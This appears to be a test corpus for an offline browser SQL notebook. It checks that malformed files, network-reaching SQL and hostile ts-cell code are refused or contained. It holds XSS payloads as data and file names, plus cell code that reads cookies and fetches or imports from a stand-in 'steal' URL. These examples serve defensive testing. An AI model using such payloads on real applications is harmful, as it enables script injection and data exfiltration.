// The hostile-input corpus: one entry per case, each a file or an action and the outcome a user must
// see (docs/corpus.md is the same list in words). corpus.spec.ts runs each group on one page and ends
// every case with the checks in harness.ts (SELECT 42, notebook text, no page error, no dialog, no
// request off the origin, nothing injected).
//
// Adding a case is one entry in a table below: a file (add it to files.ts) with the table it must become
// (or the message refusing it), a SQL text with its error or rows, or an action. `bug` records what the
// case found and how it was fixed.

import type { CorpusFileName } from './files';
import type { Locator } from '@playwright/test';
import { PROBE_SQL, type CaseCell, type CorpusPage } from './harness';
import { expect, probeCsp, tableEntry } from '../fixtures';

/** A query run in the case cell and the grid it must show: every row, values as the grid shows them. */
export interface RowsCheck {
  sql: string;
  rows: string[][];
  /** Column names in the header, when they matter (odd names). */
  headers?: string[];
}

/** For results too wide to compare whole: the counts and the first cells drawn. */
export interface WideCheck {
  sql: string;
  rowCount: number;
  columnCount: number;
  firstRowStartsWith: string[];
}

export type FileOutcome =
  | {
      /** Loaded as this table, with these rows; `checks` look at the values and types. */
      table: string;
      rowCount: number;
      checks: (RowsCheck | WideCheck)[];
      /** An info notice the load must give (e.g. the encoding it guessed). */
      note?: RegExp;
      /** The table list shows the file name as written (text, not markup). */
      sourceShown?: boolean;
      timeoutMs?: number;
    }
  | {
      /** Not loaded: a [role=alert] naming the file says this; no table appears. */
      refused: RegExp;
      table: string;
    };

interface CaseBase {
  id: string;
  title: string;
  /** What the case found in the app and how it was fixed (see docs/corpus.md). */
  bug?: string;
}

export interface FileCase extends CaseBase {
  kind: 'file';
  file: CorpusFileName;
  expect: FileOutcome;
}

export interface SqlCase extends CaseBase {
  kind: 'sql';
  sql: string;
  expect: { error: RegExp } | { rows: string[][] };
  /** Run in the case cell afterwards (e.g. RESET a setting the case changed); must succeed. */
  after?: string;
}

export interface ActionCase extends CaseBase {
  kind: 'action';
  run(c: CorpusPage): Promise<void>;
  /** Time the action may take, when more than a usual case. */
  timeoutMs?: number;
  /** For actions that open another notebook: the text it must still have, and its SELECT 42 cell. */
  expectedText?: string;
  probe?: (c: CorpusPage) => Locator;
}

export type CorpusCase = FileCase | SqlCase | ActionCase;

const types = (table: string) =>
  `SELECT column_name, data_type FROM duckdb_columns() WHERE table_name = '${table}' ORDER BY column_index`;

// ------------------------------------------------------------------------------------------- files

export const FILE_CASES: FileCase[] = [
  // CSV shapes
  { id: 'csv-ragged', kind: 'file', title: 'a CSV line with 5 fields where the header has 3', file: 'ragged.csv',
    expect: { refused: /ragged\.csv line 4: expected 3 fields \(as in the first line\), found 5/, table: 'ragged' } },
  { id: 'csv-ragged-semicolon', kind: 'file', title: 'a ragged ;-separated CSV (DuckDB’s sniffer would silently skip the header and first row)', file: 'ragged_semicolon.csv',
    expect: { refused: /ragged_semicolon\.csv line 3: expected 3 fields \(as in the first line\), found 5/, table: 'ragged_semicolon' } },
  { id: 'csv-quoted', kind: 'file', title: 'quoted fields with delimiters, doubled quotes, and "" next to an empty field', file: 'quoted.csv',
    bug: 'A quoted empty field ("") became NULL like an unquoted empty one, losing the difference. Fixed: read_csv gets allow_quoted_nulls = false (PostgreSQL CSV semantics).',
    expect: { table: 'quoted', rowCount: 3, checks: [
      { sql: 'SELECT id, name, note, name IS NULL AS name_null, note IS NULL AS note_null FROM quoted ORDER BY id', rows: [
        ['1', 'Smith, John', 'He said "hi"', 'false', 'false'],
        ['2', 'plain', 'semi;colon, and comma', 'false', 'false'],
        ['3', '', 'NULL', 'false', 'true'],
      ] },
    ] } },
  { id: 'csv-unterminated-quote', kind: 'file', title: 'a quote that is never closed', file: 'unterminated_quote.csv',
    expect: { table: 'unterminated_quote', rowCount: 3, checks: [
      { sql: 'SELECT a, b FROM unterminated_quote', rows: [['1', '"unterminated'], ['2', '3'], ['4', '5']] },
    ] } },
  { id: 'csv-multiline', kind: 'file', title: 'quoted fields holding LF and CRLF line breaks', file: 'multiline.csv',
    expect: { table: 'multiline', rowCount: 3, checks: [
      { sql: "SELECT id, replace(replace(text, chr(13), '\\r'), chr(10), '\\n') AS text, after FROM multiline ORDER BY id", rows: [
        ['1', 'line one\\nline two', 'a'], ['2', 'crlf\\r\\ninside', 'b'], ['3', 'single', 'c'],
      ] },
    ] } },
  { id: 'csv-empty', kind: 'file', title: 'an empty file (0 bytes)', file: 'empty.csv',
    expect: { refused: /empty\.csv is empty/, table: 'empty' } },
  { id: 'csv-header-only', kind: 'file', title: 'a header and no rows', file: 'header_only.csv',
    expect: { table: 'header_only', rowCount: 0, checks: [
      { sql: types('header_only'), rows: [['alpha', 'VARCHAR'], ['beta', 'VARCHAR'], ['gamma', 'VARCHAR']] },
    ] } },
  { id: 'csv-duplicate-columns', kind: 'file', title: 'duplicate column names (name, name; id, ID)', file: 'duplicate_columns.csv',
    expect: { table: 'duplicate_columns', rowCount: 1, checks: [
      { sql: 'SELECT * FROM duplicate_columns', rows: [['1', 'first', 'second', '2']], headers: ['id', 'name', 'name_1', 'ID_1'] },
    ] } },
  { id: 'csv-non-ascii-columns', kind: 'file', title: 'column names with accents, CJK, emoji, spaces and quotes', file: 'non_ascii_columns.csv',
    expect: { table: 'non_ascii_columns', rowCount: 1, checks: [
      { sql: 'SELECT "prénom", "名前", "Größe", "with space", "🙂", "quoted ""col""" FROM non_ascii_columns',
        rows: [['Élodie', '太郎', '1.5', 'a b', 'ok', 'q']], headers: ['prénom', '名前', 'Größe', 'with space', '🙂', 'quoted "col"'] },
    ] } },
  { id: 'csv-keywords', kind: 'file', title: 'a file named select.csv whose columns are SQL keywords', file: 'select.csv',
    expect: { table: 'select_', rowCount: 1, checks: [
      { sql: 'SELECT "select", "from", "where", "group", "order", "limit" FROM select_', rows: [['1', '2', '3', '4', '5', '6']],
        headers: ['select', 'from', 'where', 'group', 'order', 'limit'] },
    ] } },
  { id: 'csv-mixed-newlines', kind: 'file', title: 'CRLF and LF line endings mixed, no final newline', file: 'mixed_newlines.csv',
    bug: 'Refused: DuckDB’s sniffer (strict mode) gave up with "It was not possible to automatically detect the CSV parsing dialect", naming an internal file path. Fixed: lakebook sees the mixed endings in its sample, reads with strict_mode = false and runs its own ragged-line check on every such file; the sniffer failure message now names the file and says what to do.',
    expect: { table: 'mixed_newlines', rowCount: 4, checks: [
      { sql: 'SELECT id, word FROM mixed_newlines ORDER BY id', rows: [['1', 'one'], ['2', 'two'], ['3', 'three'], ['4', 'four']] },
    ] } },
  { id: 'csv-10k-columns', kind: 'file', title: '10,000 columns', file: 'wide_10k.csv',
    bug: 'SELECT * drew all 10,000 columns of every visible row and fetched each page with 10,000 CASTs (13 s a page in DuckDB-WASM); the page then took tens of seconds to answer anything. Fixed: the grid draws and fetches only the columns in view (blocks of 64).',
    expect: { table: 'wide_10k', rowCount: 3, timeoutMs: 300_000, checks: [
      { sql: 'SELECT c1, c5000, c10000 FROM wide_10k ORDER BY c1', rows: [['100001', '105000', '110000'], ['200001', '205000', '210000'], ['300001', '305000', '310000']] },
      { sql: 'SELECT * FROM wide_10k ORDER BY c1', rowCount: 3, columnCount: 10_000, firstRowStartsWith: ['100001', '100002', '100003'] },
    ] } },
  { id: 'csv-long-line', kind: 'file', title: 'a 3,000,000-character field (DuckDB’s default line limit is 2 MB)', file: 'long_line.csv',
    bug: 'Refused with DuckDB’s advice to set max_line_size, which the user cannot. Fixed: lakebook measures the longest record in its sample and raises max_line_size (and retries on the error) up to 64 MB.',
    expect: { table: 'long_line', rowCount: 2, checks: [
      { sql: 'SELECT id, length(payload) AS n, left(payload, 3) AS head FROM long_line ORDER BY id', rows: [['1', '3000000', 'xxx'], ['2', '5', 'sho']] },
    ] } },
  // encodings
  { id: 'csv-utf8-bom', kind: 'file', title: 'UTF-8 with a byte order mark', file: 'bom_utf8.csv',
    expect: { table: 'bom_utf8', rowCount: 2, checks: [
      { sql: 'SELECT id, name FROM bom_utf8 ORDER BY id', rows: [['1', 'café'], ['2', '日本']], headers: ['id', 'name'] },
    ] } },
  { id: 'csv-utf16le', kind: 'file', title: 'UTF-16 little-endian with a BOM', file: 'utf16le.csv',
    bug: 'Refused: "Invalid unicode (byte sequence mismatch) detected". Fixed: lakebook transcodes UTF-16 (by BOM, or by its zero bytes) to UTF-8 before DuckDB reads it.',
    expect: { table: 'utf16le', rowCount: 3, checks: [
      { sql: 'SELECT id, name FROM utf16le ORDER BY id', rows: [['1', 'café'], ['2', '日本'], ['3', 'Ölçü']], headers: ['id', 'name'] },
    ] } },
  { id: 'csv-utf16be', kind: 'file', title: 'UTF-16 big-endian with a BOM', file: 'utf16be.csv',
    bug: 'Refused; and DuckDB’s own encoding = \'utf-16\' reads it as zero rows without an error. Fixed with the same transcoding.',
    expect: { table: 'utf16be', rowCount: 3, checks: [
      { sql: 'SELECT id, name FROM utf16be ORDER BY id', rows: [['1', 'café'], ['2', '日本'], ['3', 'Ölçü']] },
    ] } },
  { id: 'txt-excel-unicode', kind: 'file', title: 'Excel “Unicode Text”: UTF-16LE, tab-separated, CRLF, .txt', file: 'excel_unicode.txt',
    bug: 'Refused (sniffer failure). Fixed with the UTF-16 transcoding.',
    expect: { table: 'excel_unicode', rowCount: 2, checks: [
      { sql: 'SELECT id, city, amount FROM excel_unicode ORDER BY id', rows: [['1', 'Köln', '12.5'], ['2', 'Zürich', '7.0']] },
    ] } },
  { id: 'csv-latin1', kind: 'file', title: 'Latin-1 (not valid UTF-8)', file: 'latin1.csv',
    bug: 'Refused: "Invalid unicode … Set the correct encoding (e.g., encoding=\'UTF-16\')" — advice the user cannot follow and that is wrong for this file. Fixed: text that is not valid UTF-8 is read as Windows-1252 (the superset of Latin-1 browsers use) and the user is told so.',
    expect: { table: 'latin1', rowCount: 3, note: /latin1\.csv is not valid UTF-8, so it was read as Windows-1252 \(Latin-1\)/, checks: [
      { sql: 'SELECT id, name, city FROM latin1 ORDER BY id', rows: [['1', 'café', 'Zürich'], ['2', 'Ñandú', 'São Paulo'], ['3', 'plain', 'Oslo']] },
    ] } },
  // Parquet
  { id: 'parquet-truncated', kind: 'file', title: 'a Parquet file cut at 60 % (no footer)', file: 'truncated.parquet',
    expect: { refused: /truncated\.parquet is not a readable Parquet file/, table: 'truncated' } },
  { id: 'parquet-not-parquet', kind: 'file', title: 'text named .parquet', file: 'not_parquet.parquet',
    expect: { refused: /not_parquet\.parquet is not a readable Parquet file/, table: 'not_parquet' } },
  { id: 'parquet-corrupt-footer', kind: 'file', title: 'a Parquet footer overwritten with garbage (length and magic intact)', file: 'corrupt_footer.parquet',
    expect: { refused: /corrupt_footer\.parquet is not a readable Parquet file: .*truncated or not Parquet/, table: 'corrupt_footer' } },
  { id: 'parquet-zero-row-groups', kind: 'file', title: 'a Parquet file with zero row groups', file: 'zero_rowgroups.parquet',
    expect: { table: 'zero_rowgroups', rowCount: 0, checks: [
      { sql: types('zero_rowgroups'), rows: [['id', 'INTEGER'], ['name', 'VARCHAR'], ['day', 'DATE']] },
    ] } },
  { id: 'parquet-nested', kind: 'file', title: 'lists, structs, maps, lists of structs, lists of lists, empty and NULL', file: 'nested.parquet',
    expect: { table: 'nested', rowCount: 3, checks: [
      { sql: types('nested'), rows: [['id', 'INTEGER'], ['ints', 'INTEGER[]'], ['rec', 'STRUCT(a INTEGER, b VARCHAR)'], ['m', 'MAP(VARCHAR, INTEGER)'],
        ['list_of_struct', 'STRUCT(p DECIMAL(2,1))[]'], ['nested_list', 'INTEGER[][]']] },
      { sql: 'SELECT * FROM nested ORDER BY id', rows: [
        ['1', '[1, 2, 3]', "{'a': 1, 'b': x}", '{k1=10, k2=20}', "[{'p': 1.5}]", '[[1], [2, 3]]'],
        ['2', '[]', "{'a': NULL, 'b': y}", '{}', '[]', '[[]]'],
        ['3', 'NULL', 'NULL', 'NULL', 'NULL', 'NULL'],
      ] },
      { sql: "SELECT ints[2], rec.b, m['k2'], list_of_struct[1].p, nested_list[2][2] FROM nested WHERE id = 1", rows: [['2', 'x', '20', '1.5', '3']] },
    ] } },
  { id: 'parquet-decimals', kind: 'file', title: 'DECIMAL(4,2) / (18,6) / (38,10): INT32, INT64 and fixed-length storage, negative and NULL', file: 'decimals.parquet',
    expect: { table: 'decimals', rowCount: 3, checks: [
      { sql: 'SELECT id, d4, d18, d38 FROM decimals ORDER BY id', rows: [
        ['1', '12.34', '123456789012.345678', '12345678901234567890123456.7890123456'],
        ['2', '-0.01', '-0.000001', '-99999999999999999999999999.9999999999'],
        ['3', 'NULL', '0.000000', '0.0000000000'],
      ] },
      { sql: `${types('decimals')} OFFSET 1`, rows: [['d4', 'DECIMAL(4,2)'], ['d18', 'DECIMAL(18,6)'], ['d38', 'DECIMAL(38,10)']] },
    ] } },
  { id: 'parquet-int96', kind: 'file', title: 'Spark’s INT96 timestamps (and every Spark type) from a real Spark 3.5 file', file: 'spark_int96.parquet',
    expect: { table: 'spark_int96', rowCount: 200, checks: [
      // Expected values: native DuckDB's own Parquet reader on the same file.
      { sql: 'SELECT count(*), count(TimestampType), min(TimestampType), max(TimestampType) FROM spark_int96',
        rows: [['200', '196', '1970-01-01 06:30:23.523', '1970-02-23 22:48:01.077']] },
      { sql: 'SELECT ByteType, LongType, "decimal", StringType, DateType, TimestampType, nested_struct FROM spark_int96 WHERE ByteType IN (1, 2) ORDER BY ByteType', rows: [
        ['1', '2', '123.52', '1', '1970-01-01', '1970-01-01 06:30:23.523', "{'aa': 1, 'ac': {'aca': 1}}"],
        ['2', '3', '247.04', '2', '1970-01-01', '1970-01-01 13:00:47.046', "{'aa': 2, 'ac': {'aca': 2}}"],
      ] },
      { sql: "SELECT column_name, data_type FROM duckdb_columns() WHERE table_name = 'spark_int96' AND column_name IN ('TimestampType', 'decimal', 'BinaryType', 'map_of_arrays') ORDER BY column_index",
        rows: [['decimal', 'DECIMAL(10,2)'], ['BinaryType', 'BLOB'], ['TimestampType', 'TIMESTAMP_NS'], ['map_of_arrays', 'MAP(BIGINT, INTEGER[])']] },
      { sql: 'SELECT sum(LongType), sum("decimal") FROM spark_int96', rows: [['19392', '2433220.48']] },
    ] } },
  // NDJSON
  { id: 'ndjson-broken-line', kind: 'file', title: 'NDJSON whose third line is cut off', file: 'broken.ndjson',
    expect: { refused: /broken\.ndjson line 3: not valid JSON/, table: 'broken' } },
  // data as attack
  { id: 'xss-csv-values-and-columns', kind: 'file', title: '<img onerror>, <script>, <svg onload> and javascript: as values and column names', file: 'xss_values.csv',
    expect: { table: 'xss_values', rowCount: 2, checks: [
      { sql: 'SELECT * FROM xss_values', headers: ['<img src=x onerror=window.__pwned=1>', 'javascript:alert(1)', 'plain'], rows: [
        ['<img src=x onerror=window.__pwned=1>', 'javascript:window.__pwned=1', '<script>window.__pwned=1</script>'],
        ['<svg onload=alert(1)>', '<a href="javascript:alert(1)">x</a>', 'ok'],
      ] },
    ] } },
  { id: 'xss-file-name', kind: 'file', title: 'a file named <img src=x onerror=…>.csv', file: '<img src=x onerror=window.__pwned=1>.csv',
    expect: { table: 'img_src_x_onerror_window_pwned_1', rowCount: 1, sourceShown: true, checks: [
      { sql: 'SELECT a FROM img_src_x_onerror_window_pwned_1', rows: [['1']] },
    ] } },
  { id: 'xss-file-name-refused', kind: 'file', title: 'a broken file named "><svg onload=…>.parquet (its name shown in the error)', file: '"><svg onload=window.__pwned=1>.parquet',
    expect: { refused: /"><svg onload=window\.__pwned=1>\.parquet is not a readable Parquet file/, table: 'svg_onload_window_pwned_1' } },
  { id: 'xss-ndjson-keys', kind: 'file', title: 'NDJSON keys and values that are markup', file: 'xss_keys.ndjson',
    expect: { table: 'xss_keys', rowCount: 1, checks: [
      { sql: 'SELECT * FROM xss_keys', headers: ['<img src=x onerror=window.__pwned=1>', 'ok'], rows: [['<b onmouseover=alert(1)>bold</b>', '1']] },
    ] } },
];

// --------------------------------------------------------------------------------------------- SQL

const SORT_2M = 'SELECT count(*) AS n FROM (SELECT i, md5(i::VARCHAR) AS h FROM range(2000000) t(i) ORDER BY h)';
const offline = /lakebook runs offline and never sends your data or queries over the network/;

export const SQL_CASES: CorpusCase[] = [
  { id: 'sql-syntax', kind: 'sql', title: 'a syntax error on line 2', sql: 'SELECT *\nFORM orders',
    expect: { error: /syntax error at or near "orders".*line 2, column 6/s } },
  { id: 'sql-syntax-second-statement', kind: 'sql', title: 'a syntax error in the second of three statements', sql: 'SELECT 1;\nSELEC 2;\nSELECT 3',
    expect: { error: /syntax error at or near "SELEC".*line 2, column 1/s } },
  { id: 'sql-unknown-table', kind: 'sql', title: 'an unknown table', sql: 'SELECT * FROM no_such_table',
    expect: { error: /no_such_table does not exist.*line 1, column 15/s } },
  { id: 'sql-conversion', kind: 'sql', title: 'a value that does not convert', sql: "SELECT CAST('abc' AS INTEGER) AS n",
    expect: { error: /Could not convert string 'abc' to INT32/ } },
  { id: 'sql-empty-cell', kind: 'sql', title: 'an empty cell', sql: '', expect: { error: /Nothing to run/ } },
  { id: 'sql-comment-only', kind: 'sql', title: 'a cell with only a comment', sql: '-- nothing here', expect: { error: /Nothing to run/ } },
  { id: 'sql-parquet-extension', kind: 'sql', title: 'read_parquet (parquet extension, unavailable offline)', sql: "SELECT * FROM read_parquet('x.parquet')",
    expect: { error: /parquet extension, which is unavailable offline.*Add files/s } },
  { id: 'sql-json-extension', kind: 'sql', title: 'json_extract (json extension)', sql: `SELECT json_extract('{"a": 1}', '$.a')`,
    expect: { error: /json extension, which is unavailable offline/ } },
  { id: 'sql-icu-extension', kind: 'sql', title: 'AT TIME ZONE (icu extension)', sql: "SELECT TIMESTAMPTZ '2024-01-01 00:00:00+00' AT TIME ZONE 'Europe/Paris'",
    expect: { error: /icu extension, which is unavailable offline.*UTC/s } },
  { id: 'sql-install', kind: 'sql', title: 'INSTALL httpfs', sql: 'INSTALL httpfs', expect: { error: /cannot be installed or loaded here/ } },
  { id: 'sql-force-install', kind: 'sql', title: 'FORCE INSTALL from a URL', sql: "FORCE INSTALL httpfs FROM 'http://extensions.example.com'",
    expect: { error: /INSTALL httpfs: DuckDB extensions cannot be installed or loaded here/ } },
  { id: 'sql-load', kind: 'sql', title: 'LOAD httpfs', sql: 'LOAD httpfs', expect: { error: /LOAD httpfs: DuckDB extensions cannot be installed or loaded here/ } },
  { id: 'sql-autoload-setting', kind: 'sql', title: 'turning extension autoloading back on', sql: 'SET autoload_known_extensions = true',
    expect: { error: /autoload_known_extensions cannot be changed: extensions are never downloaded/ } },
  { id: 'sql-read-csv-https', kind: 'sql', title: "read_csv('https://…')", sql: "SELECT * FROM read_csv('https://example.com/data.csv')",
    expect: { error: /'https:\/\/example\.com\/data\.csv' is a remote address.*never sends your data/s } },
  { id: 'sql-attach-https', kind: 'sql', title: "ATTACH 'https://…'", sql: "ATTACH 'https://example.com/db.duckdb' AS remote",
    expect: { error: /'https:\/\/example\.com\/db\.duckdb' is a remote address/ } },
  { id: 'sql-copy-s3', kind: 'sql', title: "COPY … TO 's3://…'", sql: "COPY (SELECT 42) TO 's3://bucket/out.csv'",
    expect: { error: /'s3:\/\/bucket\/out\.csv' is a remote address/ } },
  { id: 'sql-quoted-name-url', kind: 'sql', title: 'a URL written as a quoted table name: FROM "https://…"', sql: 'SELECT * FROM "https://example.com/data.csv"',
    bug: 'Egress: DuckDB-WASM scanned the quoted name as a file and fetched it (XHR from its worker); the lexical check only looked at string literals. Fixed: quoted names are checked too, and the DuckDB worker now starts behind a guard that refuses every request leaving the origin.',
    expect: { error: /"https:\/\/example\.com\/data\.csv" is a remote address.*line 1, column 15/s } },
  { id: 'sql-runtime-url', kind: 'sql', title: 'a URL built at run time: read_csv(getvariable(…))',
    sql: "SET VARIABLE u = 'htt' || 'ps://example.com/data.csv';\nSELECT * FROM read_csv(getvariable('u'))",
    bug: 'Egress: no literal to see, DuckDB-WASM fetched the URL. Fixed by the worker guard (installNetworkGuard in browser-driver.ts); its refusal is translated into the same message.',
    expect: { error: /https:\/\/example\.com\/data\.csv is a remote address\. lakebook runs offline/ } },
  { id: 'sql-runtime-url-concat', kind: 'sql', title: "a URL folded from constants: read_csv(concat('htt', 'ps://…'))",
    sql: "SELECT * FROM read_csv(concat('htt', 'ps://example.com/data.csv'))",
    bug: 'Egress, as above; fixed by the worker guard.',
    expect: { error: offline } },
  { id: 'sql-out-of-memory', kind: 'sql', title: 'a sort past a 64 MB memory limit', sql: `SET memory_limit = '64MB';\n${SORT_2M}`,
    expect: { error: /needed more memory than the engine has.*Nothing was lost/s }, after: 'RESET memory_limit' },
  { id: 'sql-reset-memory-limit', kind: 'sql', title: 'RESET memory_limit gives the memory back', sql: `SET memory_limit = '64MB';\nRESET memory_limit;\n${SORT_2M}`,
    bug: 'After SET memory_limit = \'64MB\'; RESET memory_limit, the same sort still ran out of memory at 61 MiB while current_setting said 3.1 GiB (DuckDB 1.4.3 resets the text, not the buffer pool). Fixed: the engine rewrites RESET memory_limit into SET memory_limit = <the limit it started with>.',
    expect: { rows: [['2000000']] } },
  { id: 'sql-recursive-cte-exponential', kind: 'sql', title: 'an exponential recursive CTE (bomb) under a 256 MB limit',
    sql: "SET memory_limit = '256MB';\nWITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n FROM t, range(10)) SELECT count(*) FROM t",
    bug: 'With DuckDB’s default limit (3.1 GiB of the 4 GiB WASM heap) the same bomb made the worker stop answering for over 60 s (watchdog restart, every table reloaded) instead of failing. Fixed: the engine starts with memory_limit = 2 GiB, where it fails cleanly with out-of-memory (2.5 GiB also did, after 46 s).',
    expect: { error: /needed more memory than the engine has/ }, after: 'RESET memory_limit' },
  { id: 'sql-recursive-cte-endless', kind: 'action', title: 'an endless recursive CTE, stopped with Stop',
    async run(c) {
      await c.setCaseSql('WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t');
      await c.caseCell.getByTestId('cell-editor').press('Shift+Enter');
      await expect(c.caseCell).toHaveAttribute('data-status', 'running');
      await c.page.waitForTimeout(1000);
      await c.caseCell.getByTestId('stop-cell').click();
      await expect(c.caseCell).toHaveAttribute('data-status', 'error', { timeout: 15_000 });
      await expect(c.caseError()).toContainText(/The query was cancelled/);
    } },
];

// ---------------------------------------------------------------------------------------- TS cells

/** The case cell of the TS group: a ts cell with a short time limit, so runaway code is stopped quickly. */
export const TS_CASE_CELL: CaseCell = { fence: 'ts timeout=5', text: 'export default () => [{ one: 1 }];' };
const timeLimit = /Stopped: the cell ran longer than its time limit of 5 s, so its worker was terminated\. Make it faster, or raise/;
const pageless = (name: string) => new RegExp(`ReferenceError: ${name} is not defined \\(line 1, column \\d+\\)\\. A ts cell runs in a worker, apart from the page: it has no ${name}`);

export const TS_CASES: CorpusCase[] = [
  { id: 'ts-endless-loop', kind: 'sql', title: 'while (true) {}',
    sql: 'export default () => { while (true) {} };', expect: { error: timeLimit } },
  { id: 'ts-runaway-allocation', kind: 'sql', title: 'an array that grows by 8 MB per step without end',
    // Chromium gives no way to cap a worker's heap: the time limit stops it (about 1 GB in 5 s here);
    // the tab would crash at the worker's 4 GB heap limit (docs/ts-cells.md, "Memory").
    sql: 'export default () => { const hoard: number[][] = []; for (;;) hoard.push(new Array(1_000_000).fill(hoard.length)); };',
    expect: { error: timeLimit } },
  { id: 'ts-throw', kind: 'sql', title: 'a cell that throws',
    sql: "export default () => { throw new Error('no rows for you'); };", expect: { error: /Error: no rows for you \(line 1, column \d+\)/ } },
  { id: 'ts-parent', kind: 'sql', title: 'reaching for the page through parent',
    sql: "export default () => { parent.postMessage({ steal: true }, '*'); return []; };", expect: { error: pageless('parent') } },
  { id: 'ts-document', kind: 'sql', title: 'reading document.cookie',
    sql: 'export default () => [{ cookie: document.cookie }];', expect: { error: pageless('document') } },
  { id: 'ts-fetch', kind: 'sql', title: 'fetch to another origin',
    sql: "export default async () => { await fetch('https://example.com/steal?rows=1'); return []; };",
    expect: { error: /fetch\(\) is not available in a ts cell: the cell runs without network access, so data never leaves this machine/ } },
  { id: 'ts-import-remote', kind: 'sql', title: 'a module imported from another origin',
    sql: "import steal from 'https://example.com/steal.js';\nexport default () => steal();",
    expect: { error: /A ts cell cannot import "https:\/\/example\.com\/steal\.js": code is never loaded from the network/ } },
  { id: 'ts-prototype-pollution', kind: 'action', title: 'Object.prototype polluted and Array.prototype.map overwritten by one cell',
    async run(c) {
      const status = await c.runSql("const objects: any = Object.prototype;\nobjects.polluted = 'yes';\nArray.prototype.map = () => { throw new Error('hijacked'); };\nexport default () => [{ ran: 1 }];");
      // Its own worker's built-ins are its to break: the runtime's next .map() hits the cell's own
      // throwing map, and the error names the cell's line, as any error of its code does.
      expect(status).toBe('error');
      await expect(c.caseError()).toContainText(/Error: hijacked \(line 3, column \d+\)/);
      expect(await c.page.evaluate(() => (({}) as Record<string, unknown>)['polluted']), 'the page is not polluted').toBeUndefined();
      // The next run gets a fresh worker: nothing of the last one is left. (The text starts with a letter:
      // Monaco auto-closes a bracket typed first.)
      await c.expectRows("export default () => [{ seen: String(({} as any).polluted), mapped: [1].map((x) => x + 1)[0] }];", [['undefined', '2']]);
    } },
];

// ------------------------------------------------------------------------------------------ faults

const LONG_QUERY = 'SELECT count(*) FROM range(20000000000) t(i) WHERE i % 7 = 3';

export const FAULT_CASES: ActionCase[] = [
  { id: 'fault-stop', kind: 'action', title: 'a running query stopped with Stop',
    async run(c) {
      await c.setCaseSql(LONG_QUERY);
      await c.caseCell.getByTestId('cell-editor').press('Shift+Enter');
      await expect(c.caseCell).toHaveAttribute('data-status', 'running');
      await c.page.waitForTimeout(300);
      await c.caseCell.getByTestId('stop-cell').click();
      await expect(c.caseCell).toHaveAttribute('data-status', 'error', { timeout: 15_000 });
      await expect(c.caseError()).toContainText(/cancelled/i);
    } },
  { id: 'fault-run-cancel-100', kind: 'action', title: '100 run/Stop cycles in a row', timeoutMs: 400_000,
    async run(c) {
      await c.setCaseSql(LONG_QUERY);
      const editor = c.caseCell.getByTestId('cell-editor');
      const restarts = c.page.getByRole('status').filter({ hasText: /engine (is restarting|restarted)/i });
      for (let i = 0; i < 100; i++) {
        await editor.press('Shift+Enter');
        await expect(c.caseCell, `cycle ${i + 1}`).toHaveAttribute('data-status', 'running');
        await c.caseCell.getByTestId('stop-cell').click();
        await expect(c.caseCell, `cycle ${i + 1}`).toHaveAttribute('data-status', 'error', { timeout: 15_000 });
        await expect(c.caseError()).toContainText(/cancelled/i);
      }
      // Every cancel landed in the engine: none needed the worker replaced.
      await expect(restarts).toHaveCount(0);
    } },
  { id: 'fault-kill-mid-query', kind: 'action', title: 'the DuckDB worker terminated mid-query',
    async run(c) {
      await c.setCaseSql(LONG_QUERY);
      await c.caseCell.getByTestId('cell-editor').press('Shift+Enter');
      await expect(c.caseCell).toHaveAttribute('data-status', 'running');
      await c.page.waitForTimeout(300);
      await c.page.evaluate(() => window.__lakebook!.killWorker());
      await expect(c.caseCell).toHaveAttribute('data-status', 'error', { timeout: 30_000 });
      await expect(c.caseError()).toContainText(/engine stopped|restart/i);
      // The restart reloads every file table (sales: 1,000,000 rows) before it says so.
      await expect(c.page.getByRole('status').filter({ hasText: /engine restarted/i })).toBeVisible({ timeout: 180_000 });
      await c.expectRows('SELECT count(*) AS n FROM sales JOIN orders ON true WHERE orders.order_id = 1', [['1000000']]);
    } },
  { id: 'fault-kill-mid-ingest', kind: 'action', title: 'the DuckDB worker terminated while a 2,000,000-row Parquet file loads',
    async run(c) {
      await c.page.getByTestId('add-files').setInputFiles([c.file('large.parquet')]);
      const loading = c.page.getByTestId('table-list').getByRole('status').filter({ hasText: /Loading large\.parquet… [1-9]/ });
      await expect(loading).toBeVisible({ timeout: 60_000 });
      await c.page.evaluate(() => window.__lakebook!.killWorker());
      await expect(c.page.getByRole('alert').filter({ hasText: 'large.parquet' })).toContainText(/large\.parquet: .*(engine|restart)/i, { timeout: 60_000 });
      await expect(c.page.getByRole('status').filter({ hasText: /engine restarted/i })).toBeVisible({ timeout: 60_000 });
      await expect(tableEntry(c.page, 'large')).toHaveCount(0);
      // Adding it again works: nothing is left half-loaded.
      await c.dismissNotices();
      await c.page.getByTestId('add-files').setInputFiles([c.file('large.parquet')]);
      await expect(tableEntry(c.page, 'large')).toHaveAttribute('data-row-count', '2000000', { timeout: 120_000 });
      c.keep.set('large', 2_000_000);
    } },
  { id: 'fault-reload-mid-autosave', kind: 'action', title: 'a reload right after an edit (autosave still pending)',
    async run(c) {
      const edited = 'SELECT 7 AS typed_just_before_the_reload';
      await c.setCaseSql(edited);
      await c.page.reload();
      await c.waitReady();
      await c.expectCaseSql(edited);
    } },
  { id: 'fault-two-tabs', kind: 'action', title: 'the same notebook open in two tabs',
    async run(c) {
      const second = await c.page.context().newPage();
      const other = c.attach(second);
      await second.goto('./?sample=0');
      await other.waitReady();
      await expect(second.getByRole('alert').filter({ hasText: 'already open in another tab' })).toBeVisible();
      await expect(c.page.getByRole('alert').filter({ hasText: 'opened in another tab' })).toBeVisible();
      // Both tabs still answer, and the second tab shows the same notebook.
      await other.expectCaseSql(await c.currentCaseSql());
      const status = await other.runProbe();
      expect(status).toBe('ok');
      await second.close();
    } },
  { id: 'fault-kill-mid-export', kind: 'action', title: 'the DuckDB worker terminated while a partitioned export writes files', timeoutMs: 240_000,
    async run(c) {
      const harness = await c.downloadedText();
      const notebook = `${fence}export from=sales format=parquet partition_by=product_id to=opfs path=exports/killed\n${fence}\n\n${fence}sql\n${PROBE_SQL}\n${fence}\n`;
      await c.openNotebook(notebook, 'export-fault.lakebook.md');
      const exportCell = c.page.getByTestId('cell').first();
      await expect(exportCell).toHaveAttribute('data-cell-kind', 'export');
      await exportCell.getByTestId('run-cell').click();
      await expect(exportCell.getByTestId('cell-progress')).toContainText(/file [2-9]\d* of 50/, { timeout: 100_000 });
      await c.page.evaluate(() => window.__lakebook!.killWorker());
